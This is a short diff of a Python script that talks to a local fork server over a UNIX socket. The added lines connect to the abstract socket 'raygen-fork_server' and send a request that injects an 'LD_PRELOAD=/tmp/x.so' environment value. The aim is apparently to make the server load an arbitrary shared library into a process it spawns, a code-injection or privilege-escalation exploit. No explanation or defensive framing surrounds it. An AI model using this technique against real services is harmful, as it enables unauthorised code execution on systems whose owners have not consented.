@@ -18,4 +18,9 @@ with socket.socket(socket.AF_UNIX) as wire:
         ).encode()
         + b"\n"
     )
+with socket.socket(socket.AF_UNIX) as wire:
+    wire.settimeout(2)
+    wire.connect("\0raygen-fork_server")
+    wire.sendall(b"1\0--x\0A=1\0LD_PRELOAD=/tmp/x.so")
+    wire.shutdown(socket.SHUT_WR)
 print("asked")
